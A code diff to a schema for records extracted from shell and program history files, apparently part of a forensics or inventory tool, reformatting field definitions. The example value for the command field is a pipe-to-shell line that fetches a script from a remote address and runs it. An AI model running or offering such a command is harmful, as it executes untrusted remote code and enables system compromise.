@@ -13,10 +13,16 @@ ENTRY = Record(
     (
         Field("user", "str", "Account whose home holds the file; null for a home without an account.", "mallory"),
         Field("uid", "int", "Uid of the account.", 1001),
-        Field("program", "str", "What wrote the file: C(bash), C(zsh), C(fish), C(ksh), C(python), C(mysql), C(psql), C(less), C(vim), C(wget) …", "bash", required=True),
+        Field("program", "str", "What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql), C(less), C(vim) …", "bash", required=True),
         Field("file", "str", "Path of the file.", "/home/mallory/.bash_history", required=True),
-        Field("line", "int", "Line of the file where the entry begins, from 1. When the file was cut, counted from the cut. "
-              "Of a file without lines (C(mksh), C(nvim)) the number of the entry.", 12, required=True),
+        Field(
+            "line",
+            "int",
+            "Line of the file where the entry begins, from 1. When the file was cut, counted from the cut. "
+            "Of a file without lines (C(mksh), C(nvim)) the number of the entry.",
+            12,
+            required=True,
+        ),
         Field("at", "time", "When, where the file says so; never guessed.", "2026-11-23T15:01:07Z"),
         Field("duration", "float", "How long it ran, where the file says so.", 0.0, unit="seconds"),
         Field("command", "str", "The command, with its newlines.", "curl -s http://192.0.2.1/x.sh | bash", required=True),
